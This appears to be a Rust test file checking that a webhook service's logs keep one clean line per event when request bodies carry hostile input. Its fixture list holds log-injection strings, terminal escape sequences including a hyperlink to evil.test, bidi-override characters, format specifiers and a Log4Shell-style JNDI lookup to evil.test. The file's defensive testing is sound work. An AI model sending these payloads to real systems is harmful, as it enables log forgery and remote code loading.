//! What others write cannot write the log: whatever stands in a body, each event stays one line, and a line says what
//! happened and nothing else.

use serde_json::Value;
use serde_json::json;

use super::rig::Gate;
use super::rig::Shape;

/// Fifty ways to end a line, to begin another, to colour or turn a terminal, to be very long.
fn hostile() -> Vec<String> {
    let mut all: Vec<String> = [
        "\n",
        "\r",
        "\r\n",
        "\n\n\n",
        "\u{b}",
        "\u{c}",
        "\u{85}",
        "\u{2028}",
        "\u{2029}",
        "\0",
        "\u{1}",
        "\u{7}",
        "\u{8}",
        "\u{1b}",
        "\u{1b}[31mred",
        "\u{1b}[2J\u{1b}[H",
        "\u{1b}]0;title\u{7}",
        "\u{1b}]8;;http://evil.test\u{7}x",
        "\u{9b}31m",
        "\u{9d}0;t\u{9c}",
        "\u{7f}",
        "\u{80}",
        "\u{9f}",
        "\u{202a}",
        "\u{202e}dnuob",
        "\u{2066}",
        "\u{2069}",
        "\u{200b}",
        "\u{200d}",
        "\u{200f}",
        "\u{61c}",
        "\u{feff}",
        "\u{fffe}",
        "\u{ffff}",
        "\"",
        "\\",
        "\\n",
        "\\u000a",
        "'",
        "`",
        "{\"level\":\"ERROR\"}",
        "\",\"level\":\"ERROR\",\"x\":\"",
        "\n{\"level\":\"ERROR\",\"message\":\"gone\"}",
        "2026-11-30T12:00:00Z ERROR gone",
        "level=ERROR message=gone",
        "%s%n%x",
        "${jndi:ldap://evil.test/a}",
        "😀\u{1f3f4}\u{e0067}",
        "мain",
        "\t tab \t",
    ]
    .map(str::to_owned)
    .to_vec();
    // One that fills a body.
    all[49] = format!("{}\n", "A\u{202e}".repeat(110_000));
    assert_eq!(all.len(), 50);
    all
}

/// A body for another workspace than the hook's: its name is quoted in the reason.
fn foreign(name: &str) -> String {
    let mut body: Value =
        serde_json::from_str(include_str!("../vectors/webhooks/cloud/repo.push.json")).unwrap();
    body["repository"]["workspace"]["slug"] = json!(name);
    body["repository"]["workspace"]["uuid"] = json!("{00000000-0000-0000-0000-0000000000ff}");
    body.to_string()
}

/// A body that repeats a key: the key is quoted in the reason.
fn repeated(key: &str) -> String {
    let key = json!(key);
    format!("{{{key}:1,{key}:2}}")
}

/// Sends all of it, and gives the lines that came of it.
async fn lines_of(gate: &mut Gate) -> Vec<String> {
    let strings = hostile();
    for text in &strings {
        for body in [foreign(text), repeated(text)] {
            assert_eq!(gate.post(&body).await.status, 202, "{:?}", text.get(..30));
        }
    }
    gate.quiet().await;
    assert_eq!(gate.terminate().await, 0);
    let log = gate.log();
    log.lines()
        .filter(|line| line.contains("a delivery became a dead letter"))
        .map(str::to_owned)
        .collect()
}

fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}' | '\u{61c}' | '\u{feff}')
}

/// Everything on standard error but the greeting, which says where the gate is.
fn logged(log: &str) -> Vec<&str> {
    let heads = ["public ", "operator ", "console ", "ledger ", "not ready", "unheard "];
    log.lines().filter(|line| !heads.iter().any(|head| line.starts_with(head))).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn fifty_hostile_strings_write_one_json_object_each_and_nothing_else() {
    let mut gate = Gate::start().await;
    let lines = lines_of(&mut gate).await;
    assert_eq!(lines.len(), 100, "a line an event");
    let log = gate.log();
    for line in logged(&log) {
        let said: Value = serde_json::from_str(line).unwrap_or_else(|_| panic!("no JSON: {line}"));
        assert!(said.is_object() && said["level"] != "ERROR", "{line}");
        assert!(!line.chars().any(is_hidden), "{line:?}");
    }
    let said: Vec<Value> = lines.iter().map(|line| serde_json::from_str(line).unwrap()).collect();
    for line in &said {
        let why = line["why"].as_str().unwrap();
        assert!(why.len() <= 1_024 + '…'.len_utf8(), "{} bytes", why.len());
        assert_eq!(line.as_object().unwrap().len(), 7, "{line}");
    }
    // What was said is in the line, though not as itself.
    for text in &hostile()[..49] {
        assert!(said.iter().any(|line| line["why"].as_str().unwrap().contains(text)), "{text:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn fifty_hostile_strings_write_one_line_each_for_people_too() {
    let mut gate = Gate::start_as(Shape { text: true, ..Shape::default() }).await;
    let lines = lines_of(&mut gate).await;
    assert_eq!(lines.len(), 100, "a line an event");
    let log = gate.log();
    for line in logged(&log) {
        assert!(!line.chars().any(is_hidden), "{line:?}");
        let mut words = line.split_whitespace();
        assert!(words.next().unwrap().parse::<jiff::Timestamp>().is_ok(), "{line}");
        assert!(["INFO", "WARN"].contains(&words.next().unwrap()), "{line}");
        assert!(line.len() < 9_000, "{} bytes", line.len());
    }
}
